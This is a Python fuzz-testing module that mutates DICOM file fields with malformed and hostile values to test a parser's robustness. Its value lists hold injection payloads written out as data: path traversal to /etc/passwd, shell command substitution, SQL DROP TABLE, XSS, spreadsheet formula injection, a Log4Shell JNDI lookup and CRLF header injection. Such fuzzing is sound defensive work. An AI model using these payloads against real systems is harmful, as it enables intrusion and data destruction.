"""Mutations of values: UIDs, names, dates, numbers, character sets, and texts that other programs would obey."""

from __future__ import annotations

from collections.abc import Callable, Sequence
from random import Random

from tests.trials.mutants.tree import Element, File, NotHere

UIDS: Sequence[bytes] = (
    b"", b"..", b"../../../etc/passwd", b"/etc/passwd", b"1/2", b"1.2/../../x", b"%2e%2e%2f", b"1.2\0.3", b"\0\0",
    b"1." * 32 + b"1", b"1" * 65, b"1." * 100, b"01.02.03", b"1..2", b".1.2", b"1.2.", b"1.2 .3", b"-1", b"1.2\n3",
    b"1.2.3\\1.2.4", b"<img onerror=alert(1)>", b"' OR 1=1 --", b"1.2.3.4;touch x", b"$(touch x)", b"`touch x`",
    b"CON", b"C:\\windows\\x", b"\\\\host\\share", "１.２".encode(), "1.٢".encode(), b"1e9", b"0x10", b"\xff\xfe",
    b"1.2.840.10008.5.1.4.1.1.1", b"{{7*7}}", b"~root/.ssh", b"file:///etc/passwd", b"1.2.3\r\nX-Header: y",
)  # fmt: skip
TEXTS: Sequence[bytes] = (
    b"A" * 65_534, b"^^^^^^^^", b"a=b=c=d=e=f", b"\x1b$)C\xc7\xd1", b"\x1b(I\xb1\x1b", b"\xed\xa0\x80\xed\xb0\x80",
    "\u202e\u202dgnp.exe".encode(), b"<img src=x onerror=alert(1)>", b"=cmd|' /C calc'!A0", b"a\r\x0b\x1cb", b"{{7*7}}",
    b"'; DROP TABLE study; --", b"\0\0\0\0", b"\xff" * 64, b"%s%s%n", b"${jndi:ldap://x}", b"\\" * 64, b"../../x",
)  # fmt: skip
DATES: Sequence[bytes] = (b"00000000", b"99991231", b"20161231235960", b"2026-01-01", b"20260230", b"\xff" * 8, b"-1")
NUMBERS: Sequence[bytes] = (
    b"1e999", b"-1e999", b"NaN", b"inf", b"9" * 10_000, b"-0", b"0x10", b"1,5", b"\\\\\\", b"1_000", b" ", b"+-1",
    b"1e-999", b"4294967296", b"-9223372036854775809", "٣".encode(),
)  # fmt: skip
CHARSETS: Sequence[bytes] = (
    b"", b"ISO_IR 6", b"ISO 2022 IR 149", b"\\ISO 2022 IR 87", b"ISO_IR 192\\ISO_IR 100", b"GB18030", b"utf-7",
    b"rot13", b"\\" * 64, b"ISO 2022 IR 87\\ISO 2022 IR 159\\ISO 2022 IR 149", b"unicode_escape", b"\xff\xff", b"idna",
)  # fmt: skip
_NUMBER_TAGS = (0x00280008, 0x00200013, 0x00281052, 0x00281053, 0x00281050, 0x00281051, 0x00280030, 0x00181164)
_UID_TAGS = (0x00080016, 0x00080018, 0x0020000D, 0x0020000E)


def _set(file: File, tag: int, vr: bytes, value: bytes) -> None:
    element = file.find(tag)
    if element is None:
        has_vr = bool(file.elements and file.elements[0].vr)
        element = Element(tag, vr if has_vr else b"", b"")
        file.elements.append(element)
        file.elements.sort(key=lambda one: one.tag)
    element.value = value + b" " * (len(value) % 2)


def change_uid(file: File, chance: Random) -> str:
    """Give the instance a UID that is none, or a path."""
    tag, uid = chance.choice(_UID_TAGS), chance.choice(UIDS)
    _set(file, tag, b"UI", uid)
    return f"{tag:08X} {uid[:40]!r}"


def change_text(file: File, chance: Random) -> str:
    """Give a text that a page, a shell, a table or a spreadsheet would obey."""
    tag = chance.choice((0x00100010, 0x00100020, 0x00081030, 0x00080090, 0x00080050, 0x00180015, 0x0008103E))
    text = chance.choice(TEXTS)
    _set(file, tag, b"LO", text)
    return f"{tag:08X} {text[:40]!r}"


def change_charset(file: File, chance: Random) -> str:
    """Declare an unknown character set, or one that the text is not in."""
    terms = chance.choice(CHARSETS)
    _set(file, 0x00080005, b"CS", terms)
    _set(file, 0x00100010, b"PN", chance.choice((b"\x1b$)C\xc7\xd1", b"\xea\xb0\x80", b"\x81\x30\x81", b"\x1b$B0!")))
    return f"charset {terms[:40]!r}"


def change_number(file: File, chance: Random) -> str:
    """Give a number that is none, or too large for anybody."""
    tag = chance.choice(
        (0x00280008, 0x00200013, 0x00281052, 0x00281053, 0x00281050, 0x00281051, 0x00280030, 0x00181164)
    )
    number = chance.choice(NUMBERS)
    if chance.random() < 0.3:
        number += b"\\" + chance.choice(NUMBERS)
    _set(file, tag, b"DS", number)
    return f"{tag:08X} {number[:40]!r}"


def change_date(file: File, chance: Random) -> str:
    """Give a day that never was."""
    tag, day = chance.choice((0x00080020, 0x00100030, 0x00080030, 0x00101010, 0x00080201)), chance.choice(DATES)
    _set(file, tag, b"DA", day)
    return f"{tag:08X} {day!r}"


def random_value(file: File, chance: Random) -> str:
    """Write random bytes over any value."""
    plain = [one for _, one in file.all_elements() if isinstance(one.value, bytes) and one.value]
    if not plain:
        raise NotHere
    element = chance.choice(plain)
    element.value = chance.randbytes(min(len(element.value), 5_000))
    return f"{element.tag:08X} random"


OPERATORS: Sequence[Callable[[File, Random], str]] = (
    change_uid, change_text, change_charset, change_number, change_date, random_value,
)  # fmt: skip
